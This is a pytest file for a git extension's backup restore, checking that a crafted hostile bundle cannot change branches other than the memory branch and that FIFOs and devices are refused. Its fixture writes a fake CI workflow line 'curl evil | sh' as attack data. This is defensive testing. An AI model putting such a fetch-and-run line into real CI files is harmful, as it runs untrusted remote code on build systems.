"""Hostile bundles (issue 15, cases 10 and 16): a restore touches only refs/notes/mem,
refs/gitmem/* and the branch holding .memory/, and lists every other ref it leaves out unless
--refs names it; verify and restore refuse anything that is not a regular file (a FIFO must
not hang them)."""

from __future__ import annotations

import json
import os
import subprocess

import pytest


@pytest.fixture
def crafted(repo, mem, g, tmp_path):
    """A victim clone on main, and a bundle that also advances `release` (adding a CI
    workflow), adds a branch `evil` and a tag."""
    assert mem("init").code == 0
    assert mem("save", "--commit", "HEAD", "-m", "A real memory").code == 0
    g.run("branch", "release")
    victim = tmp_path / "victim"
    g.run("clone", "-q", str(repo), str(victim))
    g.run("branch", "release", "origin/release", cwd=victim)
    g.run("checkout", "-q", "release")
    (repo / ".github").mkdir()
    (repo / ".github" / "ci.yml").write_text("run: curl evil | sh\n")
    g.run("add", ".github")
    g.run("commit", "-q", "-m", "add a workflow")
    g.run("branch", "evil")
    g.run("tag", "v9")
    g.run("checkout", "-q", "main")
    bundle = tmp_path / "crafted.bundle"
    refs = ["main", "release", "evil", "refs/tags/v9", "refs/notes/mem"]
    g.run("bundle", "create", "-q", str(bundle), *refs)
    return victim, bundle


def test_restore_leaves_other_branches_and_tags_alone_and_lists_them(crafted, mem, g, monkeypatch):
    victim, bundle = crafted
    monkeypatch.chdir(victim)
    release = g.run("rev-parse", "release").strip()
    for args in ([], ["--dry-run"]):
        result = mem("backup", "restore", str(bundle), *args)
        assert result.code == 0, result.err
        assert result.out.splitlines()[-3:] == [
            "refs/heads/evil: not the branch holding .memory/ (main), left out "
            "(`--refs refs/heads/evil` restores it)",
            "refs/heads/release: not the branch holding .memory/ (main), left out "
            "(`--refs refs/heads/release` restores it)",
            "refs/tags/v9: not memory, left out (`--refs refs/tags/v9` restores it)",
        ]
    assert g.run("rev-parse", "release").strip() == release
    assert g.proc("rev-parse", "--verify", "-q", "refs/heads/evil").returncode != 0
    assert g.proc("rev-parse", "--verify", "-q", "refs/tags/v9").returncode != 0
    document = json.loads(mem("backup", "restore", str(bundle), "--json").out)
    assert document["branch"] == "refs/heads/main"
    assert document["ignored"] == ["refs/heads/evil", "refs/heads/release", "refs/tags/v9"]


def test_refs_pattern_brings_a_named_ref_back(crafted, mem, g, monkeypatch):
    victim, bundle = crafted
    monkeypatch.chdir(victim)
    result = mem("backup", "restore", str(bundle), "--refs", "refs/heads/rel*")
    assert result.code == 0, result.err
    assert "refs/heads/release" not in result.out
    heads = dict(
        reversed(line.split()) for line in g.run("bundle", "list-heads", str(bundle)).splitlines()
    )
    assert g.run("rev-parse", "release").strip() == heads["refs/heads/release"]
    assert "branch release: fast-forward" in result.out
    assert g.proc("rev-parse", "--verify", "-q", "refs/heads/evil").returncode != 0


def test_a_detached_head_restores_no_branch(crafted, mem, g, monkeypatch):
    victim, bundle = crafted
    monkeypatch.chdir(victim)
    g.run("checkout", "-q", "--detach")
    result = mem("backup", "restore", str(bundle))
    assert result.code == 0, result.err
    assert (
        "refs/heads/main: HEAD is detached, so no branch is restored (--branch BRANCH names "
        "one), left out (`--refs refs/heads/main` restores it)"
    ) in result.out.splitlines()


@pytest.mark.parametrize("action", ["verify", "restore"])
def test_a_fifo_is_refused_at_once(repo, mem, g, tmp_path, action):
    fifo = tmp_path / "backup.bundle"
    os.mkfifo(fifo)
    # A subprocess with a timeout: a regression must fail the test, not hang the suite.
    proc = subprocess.run(
        ["git", "mem", "backup", action, str(fifo)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 2
    assert proc.stdout == ""
    assert proc.stderr == (
        f"git-mem: error: {fifo} is a FIFO, not a regular file: refused (a backup is a file)\n"
    )


def test_a_character_device_is_refused(repo, mem):
    result = mem("backup", "verify", "/dev/zero")
    assert result.code == 2
    assert result.err == (
        "git-mem: error: /dev/zero is a character device, not a regular file: refused "
        "(a backup is a file)\n"
    )
